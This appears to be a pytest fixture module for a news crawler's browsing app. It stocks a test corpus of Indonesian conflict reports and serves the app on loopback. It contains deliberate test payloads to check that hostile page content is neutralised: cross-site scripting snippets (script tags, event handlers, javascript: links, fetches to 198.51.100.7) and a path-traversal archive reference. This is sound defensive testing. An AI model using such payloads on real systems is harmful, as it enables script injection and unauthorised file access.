"""A small corpus with everything the pages show, its archive, and the browser's server on loopback."""

from __future__ import annotations

import http.client
import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime

import pytest
import uvicorn
from starlette.applications import Starlette

from crawler.archive.writer import Archive
from crawler.browse import Sources, application
from crawler.crawl.configuration import seeds_folder
from crawler.fetching.raw_responses import RawResponse
from crawler.outlets import Outlet
from crawler.processing.page import PageJob, read_pages
from crawler.relevance import Topic
from storage.article import Article, Bound
from storage.corpus import Corpus
from storage.database import Database
from storage.frontier import Frontier
from tests.spiders.running import Place
from tests.storage.conftest import new_url, server_trouble  # noqa: F401 - fixtures

FETCHED = datetime(2023, 9, 20, 3, tzinfo=UTC)
REPORT = """
Baku - Bentrokan bersenjata pecah lagi di Nagorno-Karabakh pada Selasa (19/9/2023) pagi, kata kementerian pertahanan.
Artileri dan pesawat nirawak menghantam pasukan Armenia di sekitar Stepanakert, menewaskan 25 orang dan melukai warga.
Menurut Reuters, ribuan warga mengungsi ke bandara yang dijaga pasukan penjaga perdamaian Rusia sejak malam.
Pemerintah Armenia menyebut serangan itu sebagai pelanggaran gencatan senjata yang disepakati tiga tahun lalu.
""".strip().split("\n")
ATTACK = """
Tiga orang tewas ketika roket menghantam pasar di Sinjar pada Senin malam, kata kepala kepolisian setempat.
Milisi bersenjata membalas dengan tembakan mortir ke arah pangkalan tentara di pinggir kota itu hingga pagi.
Rumah sakit kekurangan darah dan obat, sementara keluarga korban menunggu di luar gerbang sejak serangan terjadi.
""".strip().split("\n")
# What a page may try: nothing of it may run, load, lead away or be sent.
HOSTILE = """<script>document.title='owned';fetch('http://198.51.100.7/script')</script>
<img src="http://198.51.100.7/pixel.png" srcset="http://198.51.100.7/2x.png 2x"
 onerror="document.title='owned'" alt="Foto">
<form action="http://198.51.100.7/form" method="post"><input name="q"><button>Kirim</button></form>
<a href="javascript:document.title='owned'">Klik</a> <a href="http://198.51.100.7/away">Pergi</a>
<iframe src="http://198.51.100.7/frame"></iframe><meta http-equiv="refresh" content="0;url=http://198.51.100.7/refresh">
<link rel="stylesheet" href="http://198.51.100.7/style.css"><link rel="preconnect" href="http://198.51.100.7">
<style>@import url(http://198.51.100.7/import.css); body {background: url(http://198.51.100.7/ground.png)}</style>
<svg onload="document.title='owned'"><image href="http://198.51.100.7/svg.png"></image></svg>
<base href="http://198.51.100.7/"><object data="http://198.51.100.7/object"></object><p onclick="alert(1)">Tekan</p>"""
SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"


def page(title: str, paragraphs: list[str], *, day: str = "2023-09-19T09:00:00+07:00", more: str = "") -> bytes:
    body = "".join(f"<p>{text}</p>" for text in paragraphs)
    return f"""<!doctype html><html lang="id"><head><title>{title}</title>
<meta property="og:title" content="{title}"><meta property="og:type" content="article">
<meta property="article:published_time" content="{day}"></head><body><header><nav><a href="/">Beranda</a></nav></header>
<article><h1>{title}</h1><div class="share-bar">Bagikan: <a href="#">Facebook</a></div>{body}
<p>Baca juga: <a href="/lain">Harga cabai turun di pasar induk</a></p>{more}</article></body></html>""".encode()


@dataclass
class Shelf:
    """The corpus in a place, the ids of its articles by what they are, and what the pages read."""

    place: Place
    ids: dict[str, str]
    outlets: dict[str, Outlet]
    topic: Topic

    def sources(self) -> Sources:
        return Sources.open(self.place.url, self.outlets, self.topic, self.place.archive)


def stock(place: Place, topic: Topic) -> dict[str, str]:
    """Fill a place: an archived report, a copy of it, one that was revised, one without a day, a hostile one, one that
    names a file outside of the archive; two near misses; a run with an alarm."""
    corpus = Corpus(Database.open(place.url))
    ids: dict[str, str] = {}
    title = "Bentrokan Pecah di Nagorno-Karabakh, 25 Orang Tewas"
    with closing(corpus.db), closing(Archive(place.archive, "run-000001")) as archive, corpus.db.begin() as conn:

        def read(name: str, url: str, body: bytes, outlet: str) -> Article:
            job = PageJob(body, url, "text/html; charset=utf-8", fetched_at=FETCHED)
            found = read_pages([job], topic, gated=False).article
            assert found is not None, name
            kind = ("Content-Type", "text/html; charset=utf-8")
            ref = archive.write(url, RawResponse(200, [kind], body), FETCHED)
            return replace(found, outlet=outlet, archive_ref=ref)

        def save(name: str, article: Article) -> None:
            ids[name] = corpus.save(conn, article).id

        report = read("report", "https://senja.example/berita/1", page(title, REPORT), "senja")
        save("report", replace(report, relevance=0.99, extraction_agreement=0.42, rights={"noai": True}))
        copy = read("copy", "https://fajar.example/2023/salinan", page(title, REPORT), "fajar")
        save("copy", replace(copy, relevance=0.98, published_at=date(2023, 9, 20), published_precision="day"))
        first = Article(
            "https://senja.example/berita/2", "Lima tentara tewas di Terter.\n\nWarga mengungsi pada malam itu.",
            title="Lima tentara tewas", outlet="senja", published_at=date(2023, 10, 1), published_precision="day",
            relevance=0.9, language="id", fetched_at=FETCHED, extractor_version="3",
        )  # fmt: skip
        save("revised", first)
        save("revised", replace(first, text=first.text.replace("Lima", "Delapan"), title="Delapan tentara tewas"))
        bounds = [Bound("after", date(2023, 9, 1), "running id", "4711"), Bound("before", date(2023, 9, 20), "fetched")]
        undated = Article(
            "https://fajar.example/berita/3", "Meriam berbunyi lagi di perbatasan, kata warga desa itu tadi pagi.",
            title="Meriam di perbatasan", outlet="fajar", relevance=0.8, language="id", fetched_at=FETCHED,
            published_after=date(2023, 9, 1), published_before=date(2023, 9, 20), bounds=bounds,
        )  # fmt: skip
        save("undated", undated)
        body = page("Serangan roket di Sinjar, tiga tewas", ATTACK, day="2023-08-01T09:00:00+07:00", more=HOSTILE)
        hostile = read("hostile", "https://jahat.example/1", body, "senja")
        save("hostile", replace(hostile, title=f"Serangan {SCRIPT}", text=f"{hostile.text}\n\nTentara {SCRIPT}",
                                outlet="jahat", section=SCRIPT, authors=[SCRIPT], relevance=0.76,
                                rights={SCRIPT: SCRIPT}))  # fmt: skip
        outside = place.archive.parent / "secret.warc.gz"
        inside = next(place.archive.glob("*/*.warc.gz"))
        shutil.copy(inside, outside)
        trick = Article(
            "javascript:alert(1)//https://jahat.example/2", "Tentara bergerak ke utara kota itu.", title="Tentara",
            outlet="jahat", published_at=date(2023, 8, 2), relevance=0.77, archive_ref="../secret.warc.gz#0,100000",
        )  # fmt: skip
        save("trick", trick)
        for number, score in enumerate((0.6, 0.3)):
            ids[f"miss {number}"] = str(corpus.reject(
                conn, f"https://fajar.example/nyaris/{number}", reason="threshold", outlet="fajar", score=score,
                title=f"Latihan tentara ke-{number}", text=f"Tentara berlatih di lapangan {number} dekat kota.",
                terms=["tentara"], language="id",
            ))  # fmt: skip
    db = Database.open(place.url)
    frontier = Frontier(db)
    run = frontier.start_run({})
    alarm = {"outlet": "senja", "measure": "dated", "low": 0.9, "high": 1.0, "seen": 0.1, "days": 1, "page": None}
    frontier.end_run(run, "finished", {}, raised=[alarm])
    db.close()
    return ids


@pytest.fixture(scope="session")
def topic() -> Topic:
    return Topic.from_seeds(seeds_folder())


@pytest.fixture(scope="session")
def shelf(tmp_path_factory: pytest.TempPathFactory, topic: Topic) -> Shelf:
    place = Place.below(tmp_path_factory.mktemp("browse"))
    outlets = {
        "senja": Outlet(id="senja", name="Kabar Senja", domains=["senja.example"]),
        "jahat": Outlet(id="jahat", name="Jahat & Rekan", domains=["jahat.example"]),
    }
    return Shelf(place, stock(place, topic), outlets, topic)


@contextmanager
def serving(app: Starlette) -> Iterator[int]:
    """The port on which the application answers meanwhile."""
    listening = socket.create_server(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, log_config=None, access_log=False, lifespan="off", ws="none"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.01)
    try:
        yield listening.getsockname()[1]
    finally:
        server.should_exit = True
        thread.join(20)
        listening.close()


@pytest.fixture(scope="module")
def port(shelf: Shelf) -> Iterator[int]:
    sources = shelf.sources()
    with serving(application(sources)) as found:
        yield found
    sources.close()


@dataclass
class Answer:
    code: int
    headers: dict[str, str]
    text: str
    cookies: dict[str, str]


@dataclass
class Client:
    """One HTTP client: it keeps cookies, follows nothing, and sends whatever headers it is told to."""

    port: int
    cookies: dict[str, str]

    def get(self, path: str, **headers: str) -> Answer:
        return self.ask("GET", path, None, headers)

    def post(self, path: str, body: str, **headers: str) -> Answer:
        given = {"Origin": f"http://127.0.0.1:{self.port}", "Content-Type": "application/x-www-form-urlencoded"}
        return self.ask("POST", path, body, given | headers)

    def ask(self, method: str, path: str, body: str | None, headers: dict[str, str]) -> Answer:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        named = {name.replace("_", "-"): value for name, value in headers.items() if value}
        if self.cookies:
            named["Cookie"] = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        with closing(connection):
            connection.request(method, path, body, named)
            got = connection.getresponse()
            text = got.read().decode()
            told = [value for name, value in got.getheaders() if name.lower() == "set-cookie"]
        for cookie in told:
            name, _, value = cookie.split(";")[0].partition("=")
            self.cookies[name] = value
        given = {name.lower(): value for name, value in got.getheaders()}
        return Answer(got.status, given, text, dict(self.cookies))


@pytest.fixture
def client(port: int) -> Client:
    return Client(port, {})


def chromium() -> str:
    """Where Chromium is; skips the test where it, or what drives it, is not (REQUIRE_BROWSER=1: fails)."""
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    trouble = None if found else "no chromium on the path"
    try:
        import axe_playwright_python  # noqa: F401
        import playwright  # noqa: F401
    except ModuleNotFoundError as error:
        trouble = f"{error.name} is not installed"
    if trouble:
        pytest.fail(trouble) if os.environ.get("REQUIRE_BROWSER") == "1" else pytest.skip(trouble)
    return str(found)
